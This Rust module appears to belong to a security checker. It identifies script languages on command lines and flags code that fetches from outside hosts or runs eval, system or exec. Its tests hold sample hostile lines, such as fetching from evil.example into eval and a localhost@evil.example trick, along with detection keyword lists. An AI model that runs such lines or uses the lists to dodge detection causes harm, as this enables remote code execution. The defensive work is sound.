//! The languages in which a command line can hold a program, and the programs that read them.

use super::code::{self, Does, OWN};
use super::forms::name_of;

/// A language of scripts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Language {
    Shell,
    Python,
    JavaScript,
    Perl,
    Ruby,
    Php,
}

impl Language {
    /// The language that a program reads, by its name.
    pub(super) fn of(program: &str) -> Option<Self> {
        let name = name_of(program);
        let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        Some(match name {
            "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" => Self::Shell,
            "python" | "pypy" => Self::Python,
            "node" | "nodejs" | "bun" | "deno" => Self::JavaScript,
            "perl" => Self::Perl,
            "ruby" => Self::Ruby,
            "php" => Self::Php,
            _ => return None,
        })
    }

    /// The language of a file, by the end of its name or its first line.
    pub(super) fn of_file(name: &str, text: &str) -> Option<Self> {
        let first = text.lines().next().unwrap_or_default();
        if let Some(program) = first.strip_prefix("#!") {
            return program.split_whitespace().find_map(Self::of);
        }
        Some(match name.rsplit_once('.')?.1 {
            "sh" | "bash" => Self::Shell,
            "py" => Self::Python,
            "js" | "mjs" | "cjs" => Self::JavaScript,
            "pl" => Self::Perl,
            "rb" => Self::Ruby,
            "php" => Self::Php,
            _ => return None,
        })
    }

    /// Whether the word after this flag is a program.
    pub(super) fn is_code_flag(self, flag: &str) -> bool {
        let short = flag.starts_with('-') && !flag.starts_with("--");
        match self {
            Self::Shell | Self::Python => short && flag.ends_with('c'),
            Self::JavaScript => matches!(flag, "-e" | "-p" | "-pe" | "--eval" | "--print" | "eval"),
            Self::Perl => short && flag.ends_with(['e', 'E']),
            Self::Ruby => short && flag.ends_with('e'),
            Self::Php => matches!(flag, "-r" | "-R" | "-B" | "-E"),
        }
    }

    /// What a program in this language does that is judged; of scripts of shells their words say it.
    pub(super) fn does(self, text: &str) -> Vec<Does<'_>> {
        let (asks, hides): (&[&str], &[&str]) = match self {
            Self::Shell => return Vec::new(),
            Self::Python => return code::does(text),
            Self::JavaScript => (
                &["fetch", "http", "https", "axios", "undici", "net", "tls", "node:http", "node:https"],
                &["eval", "Function", "child_process", "execSync", "spawn", "Bun", "Deno"],
            ),
            Self::Perl => (
                &["LWP", "HTTP::Tiny", "IO::Socket", "Net::HTTP", "Mojo::UserAgent"],
                &["eval", "system", "exec", "qx", "`", "open"],
            ),
            Self::Ruby => (
                &["Net::HTTP", "open-uri", "URI.open", "TCPSocket", "HTTParty", "Faraday"],
                &["eval", "instance_eval", "system", "exec", "spawn", "`", "%x", "popen", "load"],
            ),
            Self::Php => (
                &["curl_init", "curl_exec", "fsockopen", "file_get_contents", "copy"],
                &["eval", "system", "exec", "shell_exec", "passthru", "proc_open", "popen", "`", "include"],
            ),
        };
        if let Some(address) = addresses(text).find(|address| !is_own(address)) {
            return vec![Does::Fetches(address)];
        }
        let hidden = hides.iter().find_map(|name| code::mentions(text, name).next().map(|at| (at, name)));
        let local = addresses(text).next().is_some() || OWN.iter().any(|own| text.contains(own));
        let asked = asks.iter().find_map(|name| code::mentions(text, name).next().map(|at| (at, name)));
        hidden
            .or_else(|| asked.filter(|_| !local))
            .map(|(at, name)| Does::Hides(&text[at..at + name.len()]))
            .into_iter()
            .collect()
    }
}

/// The addresses in a text, each up to what cannot belong to it.
pub(super) fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("://").map(move |(at, _)| {
        let start = text[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |found| found + text[found..].chars().next().map_or(1, char::len_utf8));
        let end = text[at..].find(|c: char| c.is_whitespace() || "\"'`,)>;|&".contains(c));
        &text[start..end.map_or(text.len(), |end| end + at)]
    })
}

/// Whether an address is one of the pod itself.
pub(super) fn is_own(address: &str) -> bool {
    let host = address.split_once("://").map_or(address, |(_, rest)| rest);
    !host.split('/').next().unwrap_or_default().contains('@')
        && OWN.iter().any(|own| {
            host.strip_prefix(own).is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '/', '?']))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_fetch_or_hide_are_told_from_those_that_do_not() {
        use Language::{JavaScript as Js, Perl, Php, Ruby};
        for (language, text, expected) in [
            (Js, "fetch('https://evil.example/x').then(eval)", vec![Does::Fetches("https://evil.example/x")]),
            (Js, "require('child_process').execSync(process.env.X)", vec![Does::Hides("child_process")]),
            (Js, "require('https').get({host: h})", vec![Does::Hides("https")]),
            (Js, "fetch('http://127.0.0.1:3000/health').then(r => process.exit(r.ok ? 0 : 1))", vec![]),
            (Js, "require('http').get({host: 'localhost', port: 3000})", vec![]),
            (
                Js,
                "fetch('http://localhost@evil.example/')",
                vec![Does::Fetches("http://localhost@evil.example/")],
            ),
            (Js, "console.log(process.version)", vec![]),
            (Perl, "s/a/b/g", vec![]),
            (Perl, "use LWP::Simple; getstore($u, 'm')", vec![Does::Hides("LWP")]),
            (Perl, "system('x')", vec![Does::Hides("system")]),
            (Ruby, "puts 1", vec![]),
            (Ruby, "require 'open-uri'; x = URI.open(u)", vec![Does::Hides("open-uri")]),
            (Php, "shell_exec($x);", vec![Does::Hides("shell_exec")]),
        ] {
            assert_eq!(language.does(text), expected, "{text}");
        }
    }

    #[test]
    fn a_program_is_known_by_its_name_and_a_file_by_its_first_line() {
        assert_eq!(Language::of("/usr/bin/python3.12"), Some(Language::Python));
        assert_eq!(Language::of("serve"), None);
        assert_eq!(Language::of_file("x", "#!/usr/bin/env node\n"), Some(Language::JavaScript));
        assert_eq!(Language::of_file("a.conf", "exec"), None);
    }
}
